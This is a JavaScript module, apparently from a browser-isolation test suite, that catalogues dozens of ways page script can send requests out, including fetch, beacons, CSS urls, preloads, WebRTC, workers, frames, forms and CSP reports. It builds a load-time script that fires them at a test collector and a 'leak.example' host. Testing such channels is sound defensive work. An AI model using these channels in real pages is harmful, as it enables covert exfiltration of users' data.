// The ways by which code in a document could send something out of it. Each is the body of a function that gets `to`,
// an address of the collector's for it, `ws`, the same for a WebSocket, `port`, which is its own, `own`, the
// address that the code itself came from, and `host`, a name that nobody has looked up before.

const link = (rel, more = '') =>
  `const it = document.createElement('link'); it.rel = '${rel}'; ${more} it.href = to; document.head.append(it);`;
const element = (tag, name, more = '') => `const it = document.createElement('${tag}'); ${more} it.${name} = to; document.body.append(it);`;
const style = (css) => `const it = document.createElement('style'); it.textContent = \`${css}\`; document.head.append(it);`;
const worker = '\'fetch("\' + to + \'", { mode: "no-cors" })\'';
const blob = (text) => `URL.createObjectURL(new Blob([${text}], { type: 'text/javascript' }))`;

/** Those that leave the document where it is. */
export const IN_PLACE = {
  fetch: 'fetch(to).catch(() => {});',
  'fetch-no-cors': "fetch(to, { mode: 'no-cors' }).catch(() => {});",
  'fetch-keepalive': "fetch(to, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).catch(() => {});",
  'fetch-later': 'fetchLater(to, { activateAfter: 0 });',
  xhr: "const it = new XMLHttpRequest(); it.open('GET', to); it.send();",
  beacon: "navigator.sendBeacon(to, 'x');",
  image: 'new Image().src = to;',
  'image-element': element('img', 'src'),
  'image-srcset': element('img', 'srcset'),
  picture:
    "const it = document.createElement('picture'); const one = document.createElement('source'); one.srcset = to; it.append(one, new Image()); document.body.append(it);",
  'css-url': "document.body.style.backgroundImage = 'url(' + to + ')';",
  'css-cursor': "document.body.style.cursor = 'url(' + to + '), auto';",
  'css-import': style('@import url(${to});'),
  'css-sheet-url':
    "const it = new CSSStyleSheet(); it.replaceSync('html { border-image: url(' + to + ') 1 }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, it];",
  'css-font': style('@font-face { font-family: leak; src: url(${to}) } body { font-family: leak }'),
  'css-inline': style('html { list-style-image: url(${to}); background: url(${to}) }'),
  'font-face': "const it = new FontFace('leak2', 'url(' + to + ')'); document.fonts.add(it); it.load().catch(() => {});",
  stylesheet: link('stylesheet'),
  preload: link('preload', "it.as = 'image';"),
  'preload-fetch': link('preload', "it.as = 'fetch'; it.crossOrigin = 'anonymous';"),
  modulepreload: link('modulepreload'),
  preconnect:
    "const it = document.createElement('link'); it.rel = 'preconnect'; it.href = 'http://127.0.0.1:' + port; document.head.append(it);",
  'dns-prefetch':
    "const it = document.createElement('link'); it.rel = 'dns-prefetch'; it.href = 'http://' + host; document.head.append(it);",
  icon: link('icon'),
  'touch-icon': link('apple-touch-icon'),
  manifest: link('manifest'),
  dictionary: link('compression-dictionary'),
  websocket: 'new WebSocket(ws);',
  eventsource: 'new EventSource(to);',
  webtransport: "new WebTransport('https://127.0.0.1:' + port + '/').ready.catch(() => {});",
  webrtc:
    "const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + port }] }); it.createDataChannel('x'); it.createOffer().then((offer) => it.setLocalDescription(offer));",
  worker: 'new Worker(to);',
  'worker-blob': `new Worker(${blob(worker)});`,
  'worker-data': `new Worker('data:text/javascript,' + encodeURIComponent(${worker}));`,
  'shared-worker': `new SharedWorker(${blob(worker)});`,
  'service-worker': 'navigator.serviceWorker.register(to).catch(() => {});',
  worklet: 'new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(to).catch(() => {});',
  script: element('script', 'src'),
  'module-script': element('script', 'src', "it.type = 'module';"),
  import: 'import(to).catch(() => {});',
  frame: element('iframe', 'src'),
  'frame-srcdoc': "const it = document.createElement('iframe'); it.srcdoc = '<img src=\"' + to + '\">'; document.body.append(it);",
  'frame-blank':
    "const it = document.createElement('iframe'); document.body.append(it); it.contentDocument.body.append(Object.assign(it.contentDocument.createElement('img'), { src: to }));",
  object: element('object', 'data'),
  embed: element('embed', 'src'),
  audio: element('audio', 'src', "it.preload = 'auto';"),
  video: element('video', 'src', "it.preload = 'auto';"),
  poster: element('video', 'poster'),
  track:
    "const it = document.createElement('video'); const one = document.createElement('track'); one.src = to; one.kind = 'captions'; one.default = true; it.crossOrigin = 'anonymous'; it.src = 'data:video/mp4;base64,AAAA'; it.append(one); document.body.append(it); one.track.mode = 'showing';",
  'svg-image':
    "const NS = 'http://www.w3.org/2000/svg'; const it = document.createElementNS(NS, 'svg'); const one = document.createElementNS(NS, 'image'); one.setAttribute('href', to); it.append(one); document.body.append(it);",
  'svg-use':
    "const NS = 'http://www.w3.org/2000/svg'; const it = document.createElementNS(NS, 'svg'); const one = document.createElementNS(NS, 'use'); one.setAttribute('href', to + '#a'); it.append(one); document.body.append(it);",
  'svg-filter': "document.body.style.filter = 'url(' + to + '#a)';",
  'image-input': element('input', 'src', "it.type = 'image';"),
  ping: "const it = document.createElement('a'); it.href = '#x'; it.ping = to; document.body.append(it); it.click();",
  attribution: "const it = new Image(); it.setAttribute('attributionsrc', to); document.body.append(it);",
  federated: "navigator.credentials.get({ identity: { providers: [{ configURL: to, clientId: 'x' }] } }).catch(() => {});",
  payment:
    "new PaymentRequest([{ supportedMethods: to }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment().catch(() => {});",
};

/** Those that need a document of their own, as most of them lead it away, and the others wait until all is quiet. */
export const ALONE = {
  prefetch: link('prefetch'),
  prerender: link('prerender'),
  'speculation-rules':
    "const it = document.createElement('script'); it.type = 'speculationrules'; it.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to], eagerness: 'immediate' }] }); document.head.append(it);",
  // A policy in a document may name nobody to report to. One that a child has inherited from it may, in WebKit.
  'report-uri':
    "const it = document.createElement('meta'); it.httpEquiv = 'Content-Security-Policy'; it.content = \"img-src 'none'; report-uri \" + to; document.head.append(it); const one = document.createElement('iframe'); one.srcdoc = '<img src=/none>'; document.body.append(one);",
  'own-script': "const it = document.createElement('script'); it.src = own + '?own'; document.body.append(it);",
  location: 'location = to;',
  'location-replace': 'location.replace(to);',
  'navigation-api': 'navigation.navigate(to);',
  'meta-refresh':
    "const it = document.createElement('meta'); it.httpEquiv = 'refresh'; it.content = '0;url=' + to; document.head.append(it);",
  'link-click': "const it = document.createElement('a'); it.href = to; document.body.append(it); it.click();",
  'link-download': "const it = document.createElement('a'); it.href = to; it.download = 'x'; document.body.append(it); it.click();",
  'link-new-window':
    "const it = document.createElement('a'); it.href = to; it.target = '_blank'; it.rel = 'noopener'; document.body.append(it); it.click();",
  'window-open': 'window.open(to);',
  form: "const it = document.createElement('form'); it.action = to; document.body.append(it); it.submit();",
  'form-new-window':
    "const it = document.createElement('form'); it.action = to; it.target = '_blank'; document.body.append(it); it.submit();",
  parent: 'parent.location = to;',
  top: "window.open(to, '_top');",
};

const KINDS = { preconnect: 'tcp', webtransport: 'udp', webrtc: 'udp' };

/** The name that a run has looked up. */
export const hostOf = (run) => `${run}.leak.example`;

/** A script that takes these ways, one after the other. `run` tells one run from another. */
export const attack = async (names, run, collector, own) => {
  const parts = await Promise.all(
    names.map(async (name) => {
      const port = KINDS[name] ? await collector.openPort(KINDS[name], `${run}/${name}`) : 0;
      const to = `${collector.origin}/leak/${run}/${name}`;
      return `((to, ws, port, own, host) => { try { ${IN_PLACE[name] ?? ALONE[name]} } catch {} })(${JSON.stringify(to)}, ${JSON.stringify(to.replace('http', 'ws'))}, ${port}, ${JSON.stringify(own)}, ${JSON.stringify(hostOf(run))});`;
    }),
  );
  // When the document is whole: some ways need its body.
  return `;addEventListener('load', () => {\n${parts.join('\n')}\n});`;
};
